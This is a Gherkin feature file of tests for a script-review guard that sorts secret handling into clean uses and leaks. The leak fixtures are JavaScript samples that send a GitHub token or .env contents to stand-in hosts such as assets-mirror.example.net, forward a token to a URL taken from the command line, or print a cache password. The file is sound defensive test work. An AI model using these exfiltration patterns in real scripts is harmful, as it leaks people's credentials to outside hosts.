@script-review
Feature: script pre-review of secrets used where the project means them to go
  Reading a secret is not the harm; where its value goes is. A script that loads its project's
  `.env` into its own environment, sends a token to the documented hosts of its API (named by a
  helper's callers, or handed out by that API's own responses), prints where a secret URL points
  or what a connection made with it returns, uses the secret as the project means. The same
  secret sent to a host off the allow list, written into another file, or printed stays a
  finding.

  Scenario: the project's .env loaded into the process environment is clean
    Given a project file "seed-dev.js" containing:
      """
      const fs = require('node:fs');
      const path = require('node:path');
      function loadEnv(file) {
        if (!fs.existsSync(file)) return;
        for (const line of fs.readFileSync(file, 'utf8').split('\n')) {
          const m = /^([A-Z0-9_]+)=(.*)$/.exec(line.trim());
          if (m && process.env[m[1]] === undefined) process.env[m[1]] = m[2];
        }
      }
      loadEnv(path.join(process.cwd(), '.env.local'));
      console.log(`seeding ${process.env.APP_ENV ?? 'development'}`);
      """
    When I run "terraphim-agent guard review-script --json seed-dev.js"
    Then the JSON field "verdict" is "clean"

  Scenario: the project's .env loaded by a script that posts to an unlisted host keeps its read
    Given a project file "check-settings.js" containing:
      """
      const fs = require('node:fs');
      const https = require('node:https');
      const settings = {};
      for (const line of fs.readFileSync('.env', 'utf8').split('\n')) {
        const i = line.indexOf('=');
        if (i > 0) settings[line.slice(0, i)] = line.slice(i + 1);
      }
      const req = https.request({ hostname: 'settings-usage.example.org', path: '/v3/seen', method: 'POST' });
      req.end('{"check": "done"}');
      """
    When I run "terraphim-agent guard review-script --json check-settings.js"
    Then the JSON field "verdict" is "suspicious"
    And stdout contains "reads a .env secrets file"

  Scenario: a token sent by a helper to two hosts of its own API is clean
    Given a project file "attach-assets.mjs" containing:
      """
      const API = 'https://api.github.com';
      const UPLOADS = 'https://uploads.github.com';
      async function call(method, url, body) {
        const res = await fetch(url, { method, body, headers: { Authorization: `Bearer ${process.env.GH_TOKEN}` } });
        return res.json();
      }
      const rel = await call('GET', `${API}/repos/octo/app/releases/tags/${process.argv[2]}`);
      await call('POST', `${UPLOADS}/repos/octo/app/releases/${rel.id}/assets?name=app.zip`, 'zip');
      """
    When I run "terraphim-agent guard review-script --json attach-assets.mjs"
    Then the JSON field "verdict" is "clean"

  Scenario: a token sent by a helper to its API and to an unlisted host is still a leak
    Given a project file "attach-elsewhere.mjs" containing:
      """
      const API = 'https://api.github.com';
      const MIRROR = 'https://assets-mirror.example.net';
      async function call(method, url, body) {
        const res = await fetch(url, { method, body, headers: { Authorization: `Bearer ${process.env.GH_TOKEN}` } });
        return res.json();
      }
      const rel = await call('GET', `${API}/repos/octo/app/releases/latest`);
      await call('POST', `${MIRROR}/upload/${rel.id}`, 'zip');
      """
    When I run "terraphim-agent guard review-script --json attach-elsewhere.mjs"
    Then the JSON field "verdict" is "dangerous"
    And stdout contains "secret-to-network"

  Scenario: a token sent to the next pages its API's Link header gives is clean
    Given a project file "list-issues.js" containing:
      """
      const headers = { Authorization: `Bearer ${process.env.GITHUB_TOKEN}` };
      function nextPage(link) {
        const m = /<([^>]+)>;\s*rel="next"/.exec(link || '');
        return m ? m[1] : null;
      }
      async function every(url) {
        const items = [];
        while (url) {
          const res = await fetch(url, { headers });
          items.push(...(await res.json()));
          url = nextPage(res.headers.get('link'));
        }
        return items;
      }
      every('https://api.github.com/repos/octo/app/issues?state=open').then((i) => console.log(i.length));
      """
    When I run "terraphim-agent guard review-script --json list-issues.js"
    Then the JSON field "verdict" is "clean"

  Scenario: a token sent to pages that start at a URL from the command line is still a leak
    Given a project file "list-anything.js" containing:
      """
      const headers = { Authorization: `Bearer ${process.env.GITHUB_TOKEN}` };
      function nextPage(link) {
        const m = /<([^>]+)>;\s*rel="next"/.exec(link || '');
        return m ? m[1] : null;
      }
      async function every(url) {
        const items = [];
        while (url) {
          const res = await fetch(url, { headers });
          items.push(...(await res.json()));
          url = nextPage(res.headers.get('link'));
        }
        return items;
      }
      every(process.argv[2]).then((i) => console.log(i.length));
      """
    When I run "terraphim-agent guard review-script --json list-anything.js"
    Then the JSON field "verdict" is "dangerous"
    And stdout contains "secret-to-network"

  Scenario: the host of the .env's cache URL and what its connection returns printed are clean
    Given a project file "cache-stats.js" containing:
      """
      const fs = require('node:fs');
      const Redis = require('ioredis');
      const env = {};
      for (const line of fs.readFileSync('.env.local', 'utf8').split('\n')) {
        const i = line.indexOf('=');
        if (i > 0) env[line.slice(0, i)] = line.slice(i + 1);
      }
      const u = new URL(env.CACHE_URL || 'redis://localhost:6379/0');
      if (!['localhost', '127.0.0.1'].includes(u.hostname)) {
        console.error(`not the local cache: ${u.hostname}:${u.port}`);
        process.exit(2);
      }
      const client = new Redis(env.CACHE_URL);
      client.dbsize().then((n) => console.log(`${n} keys on ${u.hostname}`)).finally(() => client.quit());
      """
    When I run "terraphim-agent guard review-script --json cache-stats.js"
    Then the JSON field "verdict" is "clean"

  Scenario: the password of the .env's cache URL printed is still a leak
    Given a project file "cache-who.js" containing:
      """
      const fs = require('node:fs');
      const env = {};
      for (const line of fs.readFileSync('.env.local', 'utf8').split('\n')) {
        const i = line.indexOf('=');
        if (i > 0) env[line.slice(0, i)] = line.slice(i + 1);
      }
      const u = new URL(env.CACHE_URL);
      console.log(`cache ${u.hostname} as ${u.password}`);
      """
    When I run "terraphim-agent guard review-script --json cache-who.js"
    Then the JSON field "verdict" is "dangerous"
    And stdout contains "secret-to-output"
